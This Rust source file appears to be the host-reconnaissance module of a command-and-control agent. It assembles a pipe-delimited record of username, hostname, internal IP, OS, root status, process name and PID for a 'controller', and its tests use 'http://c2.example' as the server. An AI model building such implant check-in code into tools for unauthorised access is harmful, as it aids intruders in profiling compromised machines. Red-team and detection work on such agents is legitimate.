//! Host identity snapshot for the sysinfo task.
//!
//! Produces the 13-field pipe-delimited record the controller expects:
//! nonce | server | domain | username | hostname | internal ip | os |
//! high integrity | process name | pid | language | version | architecture.

use std::net::UdpSocket;

/// Placeholder for a field that could not be read from the host.
const FAILED_QUERY: &str = "[FAILED QUERY]";

/// Build the pipe-delimited identity record.
pub fn collect(server: &str, nonce: &str) -> String {
    format!(
        "{}|{}|{}|{}|{}|{}|{}|{}|{}|{}|{}|{}|{}",
        nonce,
        server,
        domain(),
        username(),
        hostname(),
        internal_ip(),
        os_details(),
        high_integrity(),
        process_name(),
        std::process::id(),
        "rust",
        env!("CARGO_PKG_VERSION"),
        std::env::consts::ARCH,
    )
}

/// DNS/AD domain. Not tracked on this platform; kept for record layout.
fn domain() -> String {
    String::new()
}

/// Current account name from the environment.
pub fn username() -> String {
    std::env::var("USER")
        .or_else(|_| std::env::var("USERNAME"))
        .unwrap_or_else(|_| FAILED_QUERY.to_string())
}

/// Host name from the kernel, falling back to the environment.
pub fn hostname() -> String {
    if let Ok(name) = std::fs::read_to_string("/proc/sys/kernel/hostname") {
        let name = name.trim();
        if !name.is_empty() {
            return name.to_string();
        }
    }
    std::env::var("HOSTNAME").unwrap_or_else(|_| FAILED_QUERY.to_string())
}

/// Best-guess local address: connect a UDP socket outward and read the
/// address the kernel picked. No packet is actually sent.
pub fn internal_ip() -> String {
    let lookup = || -> std::io::Result<String> {
        let socket = UdpSocket::bind("0.0.0.0:0")?;
        socket.connect("8.8.8.8:80")?;
        Ok(socket.local_addr()?.ip().to_string())
    };
    lookup().unwrap_or_else(|_| FAILED_QUERY.to_string())
}

fn os_details() -> String {
    format!("{} {}", std::env::consts::OS, std::env::consts::ARCH)
}

/// Whether the process runs with elevated privileges (euid 0).
fn high_integrity() -> bool {
    let Ok(status) = std::fs::read_to_string("/proc/self/status") else {
        return false;
    };
    for line in status.lines() {
        if let Some(rest) = line.strip_prefix("Uid:") {
            // Uid: real effective saved fs
            return rest
                .split_whitespace()
                .nth(1)
                .is_some_and(|euid| euid == "0");
        }
    }
    false
}

fn process_name() -> String {
    std::env::current_exe()
        .ok()
        .and_then(|p| p.file_name().map(|n| n.to_string_lossy().into_owned()))
        .unwrap_or_else(|| FAILED_QUERY.to_string())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_record_has_thirteen_fields() {
        let record = collect("http://controller:8080", "00000000");
        assert_eq!(record.split('|').count(), 13);
    }

    #[test]
    fn test_record_field_order() {
        let record = collect("http://c2.example", "nonce-1");
        let fields: Vec<&str> = record.split('|').collect();
        assert_eq!(fields[0], "nonce-1");
        assert_eq!(fields[1], "http://c2.example");
        assert_eq!(fields[10], "rust");
        assert_eq!(fields[12], std::env::consts::ARCH);
    }

    #[test]
    fn test_pid_field_matches_process() {
        let record = collect("s", "n");
        let fields: Vec<&str> = record.split('|').collect();
        assert_eq!(fields[9], std::process::id().to_string());
    }
}
